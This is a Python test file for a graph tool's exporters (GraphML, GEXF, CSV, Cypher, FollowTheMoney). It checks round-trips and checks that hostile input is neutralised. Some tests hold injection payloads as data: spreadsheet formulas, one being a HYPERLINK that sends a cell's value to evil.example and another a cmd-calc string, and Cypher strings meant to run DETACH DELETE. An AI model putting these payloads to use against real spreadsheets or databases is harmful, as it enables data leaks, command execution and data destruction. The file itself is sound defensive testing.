"""Exports read back by independent readers: every actor, relation and attribute survives."""
from __future__ import annotations

import copy
import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import networkx as nx
import pytest
from click.testing import CliRunner

from graph import build_graph, load_dataset
from graph.cli import cli
from graph.export import FORMATS, export_text, write_export
from graph.exporters.tables import to_csv_files

from .conftest import SMALL_ACTORS, write_dataset

TEXT = (
    'Алиса Example, "the Chair" of the Совет, is the sister of Bob Example. '
    "In 2010 Alice led the Совет for five years. "
    "Bob is a member of Нұр Отан since 2015-03. "
    "On 5 January 2022 Alice dismissed Carol Sample (C:\\office\\`west`). "
    "According to Dan Critic, Bob Example took bribes; emoji 🙂 and a tab\there.\n"
)

RICH = {
    "actors.yaml": r"""
        actors:
          - id: alice
            name: Алиса Example
            kind: person
            aliases: [Alice, 'A. "Al" Example', "semi;colon, comma"]
            description: Chair of the Совет.
            tags: [council, "quote \" backslash \\ tick `"]
          - {id: bob, name: Bob Example, kind: person, description: "Alice's brother."}
          - {id: carol, name: Carol Sample, kind: person, description: A deputy.}
          - {id: dan, name: Dan Critic, kind: person, description: A critic.}
          - {id: sovet, name: Совет, kind: government_body, description: "A council, «official»."}
          - {id: nur-otan, name: Нұр Отан, kind: political_party, description: A party.}
        """,
    "relations.yaml": r"""
        relations:
          - from: alice
            to: bob
            type: sibling_of
            sources: [{document: doc, quote: "is the sister of Bob Example"}]
          - from: alice
            to: sovet
            type: heads
            role: 'Chair, "acting"; interim'
            start: "2019-03"
            end: "2022-01-05"
            sources:
              - {document: doc, quote: 'Алиса Example, "the Chair" of the Совет'}
              - {document: other, quote: "A second source, for the record"}
          - from: alice
            to: sovet
            type: heads
            start: "2010"
            end: "2015"
            sources: [{document: doc, quote: "In 2010 Alice led the Совет for five years."}]
          - from: bob
            to: nur-otan
            type: member_of
            start: "2015-03"
            sources: [{document: doc, quote: "Bob is a member of Нұр Отан since 2015-03."}]
          - from: alice
            to: carol
            type: dismissed
            date: "2022-01-05"
            note: "Path C:\\office\\`west` -- \"quoted\"\nsecond line"
            sources: [{document: doc, quote: "Alice dismissed Carol Sample (C:\\office\\`west`)."}]
          - from: dan
            to: bob
            type: accused
            status: alleged
            claimed_by: dan
            sources: [{document: doc, quote: "Bob Example took bribes; emoji 🙂 and a tab here."}]
        """,
}


@pytest.fixture(scope="module")
def rich_graph(tmp_path_factory) -> nx.MultiDiGraph:
    """Six actors, six relations (two parallel ones), unicode, quotes, backslashes, backticks."""
    data = write_dataset(tmp_path_factory.mktemp("rich"), RICH, {"doc": TEXT, "other": "A second source, for the record."})
    return build_graph(load_dataset(data))


LISTS = ("aliases", "tags", "claims_made", "sources")  # attributes that are lists, written as JSON text


def nodes_of(graph):
    return {node: dict(data) for node, data in graph.nodes(data=True)}


def edges_of(graph):
    return {key: (u, v, dict(data)) for u, v, key, data in graph.edges(keys=True, data=True)}


def decoded(data: dict, lists=LISTS) -> dict:
    """Attributes read from a flat format, with JSON-text lists opened."""
    return {name: json.loads(value) if name in lists and isinstance(value, str) else value
            for name, value in data.items()}


def without_none(data: dict) -> dict:
    return {name: value for name, value in data.items() if value is not None}


def test_rich_fixture_has_parallel_relations_and_unicode(rich_graph):
    assert rich_graph.number_of_nodes() == 6 and rich_graph.number_of_edges() == 6
    assert rich_graph.number_of_edges("alice", "sovet") == 2
    assert "\n" in rich_graph.edges["alice", "carol", "alice/dismissed/carol@2022-01-05"]["note"]


def test_graphml_reads_back_whole_with_networkx_and_igraph(rich_graph, tmp_path):
    import igraph

    path = tmp_path / "graph.graphml"
    write_export(rich_graph, "graphml", path)

    back = nx.read_graphml(path, force_multigraph=True)
    assert {n: decoded(d) for n, d in back.nodes(data=True)} == nodes_of(rich_graph)
    expected = {key: (u, v, without_none(data)) for key, (u, v, data) in edges_of(rich_graph).items()}
    read = {key: (u, v, decoded(data)) for u, v, key, data in back.edges(keys=True, data=True)}
    assert all(data.pop("relation_id") == key for key, (_, _, data) in read.items())
    assert read == expected
    assert json.loads(back.graph["kinds"]) == rich_graph.graph["kinds"]

    other = igraph.Graph.Read_GraphML(str(path))
    assert other.is_directed() and (other.vcount(), other.ecount()) == (6, 6)
    names = dict(zip(other.vs["id"], other.vs["name"]))
    assert names["nur-otan"] == "Нұр Отан"
    assert json.loads(other.vs.find(id="alice")["aliases"]) == ["Alice", 'A. "Al" Example', "semi;colon, comma"]
    assert sorted(other.es["relation_id"]) == sorted(edges_of(rich_graph))
    heads = other.es.find(relation_id="alice/heads/sovet@2019-03#chair-acting-interim")
    assert (other.vs[heads.source]["id"], other.vs[heads.target]["id"]) == ("alice", "sovet")
    assert heads["role"] == 'Chair, "acting"; interim' and heads["symmetric"] is False
    assert [s["document"] for s in json.loads(heads["sources"])] == ["doc", "other"]


def test_gexf_reads_back_with_time_intervals_for_the_timeline(rich_graph, tmp_path):
    path = tmp_path / "graph.gexf"
    write_export(rich_graph, "gexf", path)

    back = nx.read_gexf(path)
    assert back.is_multigraph() and back.number_of_edges() == 6
    for node, data in rich_graph.nodes(data=True):
        read = back.nodes[node]
        assert read["label"] == data["name"] and read["kind"] == data["kind"]
        assert json.loads(read["aliases"]) == data["aliases"] and json.loads(read["tags"]) == data["tags"]
    by_id = {data["id"]: (u, v, data) for u, v, data in back.edges(data=True)}
    assert by_id.keys() == edges_of(rich_graph).keys()
    for key, (u, v, data) in edges_of(rich_graph).items():
        read = by_id[key][2]
        assert by_id[key][:2] == (u, v)
        assert read["relation_type"] == data["type"] and read["label"] == data["label"]
        assert json.loads(read["sources"]) == data["sources"] and read.get("note") == data["note"]
        assert read.get("start_as_written") == data["start"] and read.get("end_as_written") == data["end"]
    # Partial dates widen to whole days; a one-off event starts on its date and stays open.
    assert (by_id["alice/heads/sovet@2010"][2]["start"], by_id["alice/heads/sovet@2010"][2]["end"]) == \
        ("2010-01-01", "2015-12-31")
    dismissed = by_id["alice/dismissed/carol@2022-01-05"][2]
    assert dismissed["start"] == "2022-01-05" and "end" not in dismissed
    assert "start" not in by_id["alice/sibling_of/bob"][2]

    root = ET.parse(path).getroot()
    ns = {"g": "http://www.gexf.net/1.2draft"}
    graph_element = root.find("g:graph", ns)
    assert (graph_element.get("mode"), graph_element.get("timeformat")) == ("dynamic", "date")
    member = next(e for e in root.iter("{http://www.gexf.net/1.2draft}edge") if e.get("source") == "bob"
                  and e.get("target") == "nur-otan")
    assert (member.get("start"), member.get("end")) == ("2015-03-01", None)


def test_cytoscape_json_has_unique_ids_and_reads_back(rich_graph):
    data = json.loads(export_text(rich_graph, "cytoscape"))
    elements = data["elements"]["nodes"] + data["elements"]["edges"]
    ids = [element["data"]["id"] for element in elements]
    assert len(ids) == len(set(ids)) == 12
    node_ids = {node["data"]["id"] for node in data["elements"]["nodes"]}
    assert all({edge["data"]["source"], edge["data"]["target"]} <= node_ids for edge in data["elements"]["edges"])
    back = nx.cytoscape_graph(data)
    assert {n: {k: v for k, v in d.items() if k not in ("id", "value")} for n, d in back.nodes(data=True)} \
        == nodes_of(rich_graph)
    assert {k: (u, v, {a: b for a, b in d.items() if a not in ("id", "key", "source", "target")})
            for u, v, k, d in back.edges(keys=True, data=True)} == edges_of(rich_graph)
    assert data["data"]["documents"]["other"]["file"] == "other.txt"


def test_cytoscape_edge_id_that_equals_an_actor_id_is_prefixed(tmp_path):
    data_dir = write_dataset(tmp_path, {"a.yaml": """\
        actors:
          - {id: alice, name: Alice Example, kind: person, description: x}
          - {id: bob, name: Bob Example, kind: person, description: y}
        relations:
          - {id: bob, from: alice, to: bob, type: sibling_of,
             sources: [{document: doc, quote: "is the sister of Bob Example"}]}
        """})
    data = json.loads(export_text(build_graph(load_dataset(data_dir)), "cytoscape"))
    (edge,) = data["elements"]["edges"]
    assert (edge["data"]["id"], edge["data"]["key"]) == ("relation:bob", "bob")


def read_csv_table(path):
    """Rows of a CSV export with Neo4j type suffixes removed, JSON lists opened and empty cells as None."""
    with open(path, newline="", encoding="utf-8") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        rows = []
        for cells in reader:
            row = {}
            for column, cell in zip(header, cells, strict=True):
                name, _, kind = column.partition(":")
                value = None if cell == "" else cell
                if kind == "boolean":
                    value = {"true": True, "false": False}[cell]
                elif name in LISTS and value is not None:
                    value = json.loads(value)
                row[name or column] = value
            rows.append(row)
    return header, rows


def test_csv_round_trip_keeps_every_attribute_and_neo4j_headers(rich_graph, tmp_path):
    written = write_export(rich_graph, "csv", tmp_path / "out")
    assert sorted(p.name for p in written) == ["edges.csv", "nodes.csv"]

    header, nodes = read_csv_table(tmp_path / "out" / "nodes.csv")
    assert header[:2] == ["id:ID", ":LABEL"]
    assert {row.pop("id"): row for row in nodes if row.pop(":LABEL").startswith("Actor;")} == nodes_of(rich_graph)

    header, edges = read_csv_table(tmp_path / "out" / "edges.csv")
    assert header[:4] == [":START_ID", ":END_ID", ":TYPE", "id"] and "symmetric:boolean" in header
    back = {}
    for row in edges:
        u, v, rtype = row.pop(":START_ID"), row.pop(":END_ID"), row.pop(":TYPE")
        assert rtype == row["type"]
        back[row.pop("id")] = (u, v, row)
    assert back == edges_of(rich_graph)


def test_an_end_not_known_leaves_the_gexf_interval_open_and_is_said_in_ftm(rich_graph, tmp_path):
    ended = copy.deepcopy(rich_graph)
    key = "alice/heads/sovet@2010"
    ended.edges["alice", "sovet", key]["end"] = "unknown"
    write_export(ended, "gexf", tmp_path / "g.gexf")
    read = next(data for _, _, data in nx.read_gexf(tmp_path / "g.gexf").edges(data=True) if data["id"] == key)
    assert (read["start"], read["end_as_written"]) == ("2010-01-01", "unknown") and "end" not in read
    (entity,) = [e for e in map(json.loads, export_text(ended, "ftm").splitlines())
                 if e["properties"].get("recordId") == [key]]
    assert_valid_ftm(entity)
    assert "endDate" not in entity["properties"] and "when is not known" in entity["properties"]["summary"][0]


# --- XML: characters XML 1.0 forbids never make an ill-formed file ---------------------------

NOT_XML = "\x01\x0b\x1f\ud800\udfff\ufffe\uffff"


def hostile_to_xml(graph: nx.MultiDiGraph) -> nx.MultiDiGraph:
    """A copy of ``graph`` with XML-forbidden characters in an actor id, names, lists, an attribute
    name, a relation id and the vocabulary."""
    hostile = nx.relabel_nodes(copy.deepcopy(graph), {"bob": "bob" + NOT_XML})
    hostile.nodes["alice"]["name"] = "Al" + NOT_XML + "ice"
    hostile.nodes["alice"]["aliases"] = ["A" + NOT_XML]
    hostile.nodes["carol"]["odd\x02name"] = "value"
    u, v, key, data = next(iter(hostile.edges("dan", keys=True, data=True)))
    hostile.remove_edge(u, v, key)
    hostile.add_edge(u, v, key + NOT_XML, **{**data, "note": "n" + NOT_XML})
    hostile.graph["kinds"]["person"]["label"] = "Person" + NOT_XML
    return hostile


@pytest.mark.parametrize("fmt, read", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_xml_formats_stay_well_formed_whatever_the_strings(rich_graph, tmp_path, fmt, read):
    path = tmp_path / f"graph.{fmt}"
    write_export(hostile_to_xml(rich_graph), fmt, path)
    ET.parse(path)  # well-formed XML 1.0
    back = read(path)
    replaced = "\ufffd" * len(NOT_XML)
    assert "bob" + replaced in back and back.number_of_nodes() == rich_graph.number_of_nodes()
    assert back.number_of_edges() == rich_graph.number_of_edges()
    name = back.nodes["alice"]["label" if fmt == "gexf" else "name"]
    assert name == "Al" + replaced + "ice"
    # in JSON text a control character is an escape (\u0001), which XML holds, so it survives
    assert json.loads(back.nodes["alice"]["aliases"]) == ["A\x01\x0b\x1f" + "\ufffd" * 4]
    assert back.nodes["carol"]["odd\ufffdname"] == "value"
    notes = [data["note"] for _, _, data in back.edges(data=True) if "note" in data]
    assert "n" + replaced in notes


# --- CSV injection: formula-like cells are neutralised unless --raw --------------------------

FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "alias": "@SUM(1+1)*cmd|' /C calc'!A0",
            "description": "+1 call me", "role": "-2+3"}
FORMULA_ACTORS = (SMALL_ACTORS.replace("name: Alice Example", "name: '%(name)s'" % FORMULAS)
                  .replace("aliases: [Alice]", 'aliases: ["%(alias)s"]' % FORMULAS)
                  .replace("description: A critic.", "description: %(description)s" % FORMULAS))
FORMULA_RELATION = f"""\
    relations:
      - from: alice
        to: council
        type: heads
        role: "{FORMULAS['role']}"
        sources: [{{document: doc, quote: "the chair of the Example Council"}}]
    """


def exported_csv(tmp_path, *options) -> dict[str, dict]:
    """The csv export of the formula dataset by the real command: each file's rows by id."""
    data = write_dataset(tmp_path, {"actors.yaml": FORMULA_ACTORS, "rel.yaml": FORMULA_RELATION})
    result = CliRunner().invoke(cli, ["export", "--data", str(data), "--format", "csv", "-o", str(tmp_path / "out"),
                                      *options])
    assert result.exit_code == 0, result.output
    tables = {}
    for name in ("nodes", "edges"):
        with open(tmp_path / "out" / f"{name}.csv", newline="", encoding="utf-8") as handle:
            tables[name] = {row.get("id:ID") or row["id"]: row for row in csv.DictReader(handle)}
    return tables


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(tmp_path):
    tables = exported_csv(tmp_path)
    alice, dan = tables["nodes"]["alice"], tables["nodes"]["dan"]
    assert alice["name"] == "'" + FORMULAS["name"] and dan["description"] == "'" + FORMULAS["description"]
    assert json.loads(alice["aliases"]) == [FORMULAS["alias"]]  # JSON text starts with [: nothing to run
    (heads,) = [row for row in tables["edges"].values() if row[":TYPE"] == "heads"]
    assert heads["role"] == "'" + FORMULAS["role"]
    cells = [cell for table in tables.values() for row in table.values() for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_raw_keeps_every_cell_as_it_is(tmp_path):
    tables = exported_csv(tmp_path, "--raw")
    assert tables["nodes"]["alice"]["name"] == FORMULAS["name"]
    assert tables["nodes"]["dan"]["description"] == FORMULAS["description"]


def test_raw_is_for_csv_only(small_data):
    result = CliRunner().invoke(cli, ["export", "--data", str(small_data), "--format", "json", "--raw"])
    assert result.exit_code == 2 and "--raw applies to --format csv only" in result.output


def test_csv_neutralises_tabs_and_carriage_returns_before_a_formula(rich_graph):
    hostile = rich_graph.copy()
    hostile.nodes["bob"]["name"] = "\t=1+2"
    hostile.nodes["carol"]["name"] = "\r=cmd|' /C calc'!A0"
    rows = {row["id:ID"]: row for row in csv.DictReader(io.StringIO(to_csv_files(hostile)["nodes.csv"]))}
    assert (rows["bob"]["name"], rows["carol"]["name"]) == ("'\t=1+2", "'\r=cmd|' /C calc'!A0")
    raw = {row["id:ID"]: row for row in csv.DictReader(io.StringIO(to_csv_files(hostile, raw=True)["nodes.csv"]))}
    assert raw["bob"]["name"] == "\t=1+2"


# --- Cypher: read the script back with a small reader of Cypher's literal syntax -------------

_TOKEN = re.compile(r'\s+|//[^\n]*|"(?:[^"\\]|\\.)*"|`(?:[^`]|``)*`|-?\d+(?:\.\d+)?|[A-Za-z_][A-Za-z0-9_]*|\+=|.', re.S)
_ESCAPES = {"\\": "\\", '"': '"', "'": "'", "n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}


def cypher_tokens(script: str) -> list[str]:
    return [t for t in _TOKEN.findall(script) if not t.isspace() and not t.startswith("//")]


def unescape(token: str) -> str:
    out, body, i = [], token[1:-1], 0
    while i < len(body):
        if body[i] == "\\":
            if body[i + 1] == "u":
                out.append(chr(int(body[i + 2:i + 6], 16)))
                i += 6
                continue
            out.append(_ESCAPES[body[i + 1]])
            i += 2
        else:
            out.append(body[i])
            i += 1
    return "".join(out)


def parse_literal(tokens: list[str], i: int):
    """The Cypher literal starting at ``tokens[i]`` and the index after it."""
    token = tokens[i]
    if token.startswith('"'):
        return unescape(token), i + 1
    if token in ("null", "true", "false"):
        return {"null": None, "true": True, "false": False}[token], i + 1
    if token in "[{":
        close, items, i = "]" if token == "[" else "}", [], i + 1
        while tokens[i] != close:
            if close == "}":
                key = tokens[i][1:-1].replace("``", "`") if tokens[i].startswith("`") else tokens[i]
                assert tokens[i + 1] == ":"
                value, i = parse_literal(tokens, i + 2)
                items.append((key, value))
            else:
                value, i = parse_literal(tokens, i)
                items.append(value)
            if tokens[i] == ",":
                i += 1
        return (dict(items) if close == "}" else items), i + 1
    raise AssertionError(f"unexpected token {token!r}")


NODE_STATEMENT = ["MERGE", "(", "n", ":", "Actor", "{", "id", ":", "row", ".", "id", "}", ")",
                  "SET", "n", "+=", "row", ",", "n", ":", "LABEL", ";"]
EDGE_STATEMENT = ["MATCH", "(", "a", ":", "Actor", "{", "id", ":", "row", ".", "from", "}", ")", ",",
                  "(", "b", ":", "Actor", "{", "id", ":", "row", ".", "to", "}", ")",
                  "MERGE", "(", "a", ")", "-", "[", "r", ":", "TYPE", "{", "id", ":", "row", ".", "id", "}", "]",
                  "-", ">", "(", "b", ")", "SET", "r", "+=", "row", ".", "properties", ";"]


def read_cypher(script: str):
    """Rebuild the graph from the script, asserting that outside literals it has only the expected statements."""
    tokens = cypher_tokens(script)
    assert tokens[:17] == ["CREATE", "CONSTRAINT", "actorgraph_actor_id", "IF", "NOT", "EXISTS", "FOR", "(", "n", ":",
                           "Actor", ")", "REQUIRE", "n", ".", "id", "IS"]
    i = tokens.index(";") + 1
    graph = nx.MultiDiGraph()
    while i < len(tokens):
        assert tokens[i] == "UNWIND"
        rows, i = parse_literal(tokens, i + 1)
        assert tokens[i:i + 2] == ["AS", "row"]
        i += 2
        template = NODE_STATEMENT if tokens[i] == "MERGE" else EDGE_STATEMENT
        label = None
        for expected in template:
            if expected in ("LABEL", "TYPE"):
                assert tokens[i].startswith("`")
                label = tokens[i][1:-1].replace("``", "`")
            else:
                assert tokens[i] == expected, (tokens[i], expected)
            i += 1
        for row in rows:
            if template is NODE_STATEMENT:
                graph.add_node(row.pop("id"), **row, label=label)
            else:
                graph.add_edge(row["from"], row["to"], row["id"], **row["properties"], rel_type=label)
    return graph


def test_cypher_script_recreates_the_graph(rich_graph):
    back = read_cypher(export_text(rich_graph, "cypher"))
    read = {n: decoded({k: v for k, v in d.items() if k != "label"}) for n, d in back.nodes(data=True)}
    assert read == nodes_of(rich_graph)
    assert all(d["label"] == d["kind"] for _, d in back.nodes(data=True))
    edges = {k: (u, v, d) for u, v, k, d in back.edges(keys=True, data=True)}
    assert edges.keys() == edges_of(rich_graph).keys()
    for key, (u, v, data) in edges_of(rich_graph).items():
        read = dict(edges[key][2])
        assert edges[key][:2] == (u, v) and read.pop("rel_type") == data["type"]
        assert json.loads(read.pop("sources")) == data["sources"]
        assert read == {k: value for k, value in data.items() if k != "sources"}


def test_cypher_cannot_be_injected_through_data(rich_graph):
    hostile = rich_graph.copy()
    evil = '"}) DETACH DELETE n //'
    hostile.nodes["bob"]["kind"] = "x` DETACH DELETE n //"
    hostile.nodes["bob"]["name"] = evil + "\\"
    hostile.nodes["bob"]["aliases"] = ["\\u0022", "'", "\n}"]
    key = "alice/sibling_of/bob"
    hostile.edges["alice", "bob", key]["type"] = "T`]->(b) DETACH DELETE b //"
    hostile.edges["alice", "bob", key]["note"] = "\\\"; MATCH (n) DETACH DELETE n; //"

    script = export_text(hostile, "cypher")
    assert "DELETE" not in " ".join(t for t in cypher_tokens(script) if not t.startswith(('"', "`")))
    back = read_cypher(script)
    assert back.nodes["bob"]["label"] == "x` DETACH DELETE n //"
    assert back.nodes["bob"]["name"] == evil + "\\" and back.nodes["bob"]["aliases"] == ["\\u0022", "'", "\n}"]
    assert back.edges["alice", "bob", key]["rel_type"] == "T`]->(b) DETACH DELETE b //"
    assert back.edges["alice", "bob", key]["note"] == "\\\"; MATCH (n) DETACH DELETE n; //"


def neo4j_unicode_escapes(script: str) -> str:
    """The script as Neo4j's parser reads it: a backslash not itself escaped, then ``u0060``, is a backtick
    (Java's unicode escapes, decoded before anything else, even between backticks)."""
    return re.sub(r"(?<!\\)((?:\\\\)*)\\u+0060", lambda found: found.group(1) + "`", script)


def test_cypher_names_cannot_be_ended_by_a_unicode_escaped_backtick(rich_graph):
    hostile = copy.deepcopy(rich_graph)
    hostile.nodes["bob"]["kind"] = "x\\u0060 DETACH DELETE n //"
    key = "alice/sibling_of/bob"
    hostile.edges["alice", "bob", key]["type"] = "T\\uu0060]->(b) DETACH DELETE b //"
    hostile.edges["alice", "bob", key]["note"] = "\\u0060; MATCH (n) DETACH DELETE n; //"

    script = neo4j_unicode_escapes(export_text(hostile, "cypher"))
    assert "DELETE" not in " ".join(t for t in cypher_tokens(script) if not t.startswith(('"', "`")))
    back = read_cypher(script)
    assert back.nodes["bob"]["label"] == "x` DETACH DELETE n //"
    assert back.edges["alice", "bob", key]["rel_type"] == "T`]->(b) DETACH DELETE b //"
    assert back.edges["alice", "bob", key]["note"] == "\\u0060; MATCH (n) DETACH DELETE n; //"


# --- FollowTheMoney ------------------------------------------------------------------------


def assert_valid_ftm(entity: dict) -> None:
    """FtM accepts the entity and its cleaning keeps every value; only names may lose enclosing quotes and
    doubled spaces, as FtM stores every name."""
    from followthemoney import model

    schema = model.get(entity["schema"])
    schema.validate(entity)
    cleaned = model.get_proxy(entity, cleaned=False).to_dict()["properties"]
    assert cleaned.keys() == entity["properties"].keys(), entity
    for name, values in entity["properties"].items():
        if schema.get(name).type.name == "name":
            assert len(cleaned[name]) == len(values), (entity, name)
        else:
            assert cleaned[name] == values, (entity, name)


def test_ftm_entities_are_valid_and_complete(rich_graph):
    from followthemoney import model

    entities = [json.loads(line) for line in export_text(rich_graph, "ftm").splitlines()]
    assert len(entities) == 6 + 2 + 6  # actors, documents, relations
    by_id = {entity["id"]: entity for entity in entities}
    assert len(by_id) == len(entities)
    for entity in entities:
        assert_valid_ftm(entity)
        schema = model.get(entity["schema"])
        for name, values in entity["properties"].items():  # references point at entities of the right schema
            prop = schema.get(name)
            if prop.type.name == "entity":
                assert all(model.get(by_id[value]["schema"]).is_a(prop.range) for value in values), (entity, name)

    assert by_id["alice"]["schema"] == "Person" and by_id["sovet"]["schema"] == "PublicBody"
    assert by_id["nur-otan"]["schema"] == "Organization"
    assert by_id["alice"]["properties"]["alias"] == ["Alice", 'A. "Al" Example', "semi;colon, comma"]
    links = {entity["properties"]["recordId"][0]: entity for entity in entities if "recordId" in entity["properties"]}
    assert links.keys() == edges_of(rich_graph).keys()
    assert links["alice/sibling_of/bob"]["schema"] == "Family"
    assert links["bob/member_of/nur-otan@2015-03"]["schema"] == "Membership"
    heads = links["alice/heads/sovet@2019-03#chair-acting-interim"]
    assert heads["schema"] == "Employment"
    assert heads["properties"]["startDate"] == ["2019-03"] and heads["properties"]["endDate"] == ["2022-01-05"]
    assert heads["properties"]["description"] == ['Алиса Example, "the Chair" of the Совет', "A second source, for the record"]
    assert len(heads["properties"]["proof"]) == 2
    dismissed = links["alice/dismissed/carol@2022-01-05"]
    assert dismissed["schema"] == "UnknownLink" and dismissed["properties"]["date"] == ["2022-01-05"]
    alleged = links["dan/accused/bob"]
    assert alleged["properties"]["status"] == ["alleged"]
    assert "(alleged by Dan Critic)" in alleged["properties"]["summary"][0]


def test_ftm_link_schema_falls_back_to_unknown_link_when_the_ends_do_not_fit():
    from graph.exporters.ftm import link_for

    assert link_for("family", "person", "person").schema == "Family"
    assert link_for("family", "person", "government_body").schema == "UnknownLink"
    assert link_for("membership", "country", "alliance").schema == "Membership"
    assert link_for("position", "organization", "government_body").schema == "UnknownLink"
    assert link_for("no-such-category", "person", "person").schema == "UnknownLink"


# --- the command ----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", [f for f in FORMATS if not FORMATS[f].folder])
def test_single_file_formats_go_to_stdout_or_to_a_file(small_data, tmp_path, fmt):
    out = tmp_path / f"graph.{fmt}"
    runner = CliRunner()
    written = runner.invoke(cli, ["export", "--data", str(small_data), "--format", fmt, "-o", str(out)])
    assert written.exit_code == 0, written.output
    printed = runner.invoke(cli, ["export", "--data", str(small_data), "--format", fmt])
    assert printed.exit_code == 0 and printed.output == out.read_text(encoding="utf-8")


def test_csv_writes_a_folder(small_data, tmp_path):
    result = CliRunner().invoke(cli, ["export", "--data", str(small_data), "--format", "csv", "-o",
                                      str(tmp_path / "new" / "folder")])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "new" / "folder").iterdir()) == ["edges.csv", "nodes.csv"]


@pytest.mark.parametrize("args, message", [
    (["--format", "csv"], "writes several files; give an -o folder"),
    (["--format", "csv", "-o", "{file}"], "is a file"),
    (["--format", "graphml", "-o", "{folder}"], "is a folder"),
    (["--format", "dot"], "Invalid value for '--format'"),
])
def test_bad_destinations_are_usage_errors(small_data, tmp_path, args, message):
    (tmp_path / "file.txt").write_text("keep\n", encoding="utf-8")
    args = [a.format(file=tmp_path / "file.txt", folder=tmp_path) for a in args]
    result = CliRunner().invoke(cli, ["export", "--data", str(small_data), *args])
    assert result.exit_code == 2 and message in result.output and "Traceback" not in result.output
    assert (tmp_path / "file.txt").read_text(encoding="utf-8") == "keep\n"


# --- the shipped dataset ----------------------------------------------------------------------


def test_shipped_graph_survives_every_format(shipped_graph, tmp_path):
    nodes, edges = nodes_of(shipped_graph), edges_of(shipped_graph)
    assert nodes and edges

    write_export(shipped_graph, "graphml", tmp_path / "g.graphml")
    back = nx.read_graphml(tmp_path / "g.graphml", force_multigraph=True)
    assert {n: decoded(d) for n, d in back.nodes(data=True)} == nodes
    assert {k: (u, v) for u, v, k in back.edges(keys=True)} == {k: (u, v) for k, (u, v, _) in edges.items()}

    write_export(shipped_graph, "gexf", tmp_path / "g.gexf")
    back = nx.read_gexf(tmp_path / "g.gexf")
    assert set(back) == nodes.keys() and {d["id"] for _, _, d in back.edges(data=True)} == edges.keys()

    write_export(shipped_graph, "csv", tmp_path / "csv")
    _, node_rows = read_csv_table(tmp_path / "csv" / "nodes.csv")
    _, edge_rows = read_csv_table(tmp_path / "csv" / "edges.csv")
    assert {row["id"] for row in node_rows} == nodes.keys() and {row["id"] for row in edge_rows} == edges.keys()

    cypher = read_cypher(export_text(shipped_graph, "cypher"))
    assert set(cypher) == nodes.keys() and {k for _, _, k in cypher.edges(keys=True)} == edges.keys()

    entities = [json.loads(line) for line in export_text(shipped_graph, "ftm").splitlines()]
    for entity in entities:
        assert_valid_ftm(entity)
    assert len(entities) == len(nodes) + len(shipped_graph.graph["documents"]) + len(edges)
    assert {e["properties"]["recordId"][0] for e in entities if "recordId" in e["properties"]} == edges.keys()
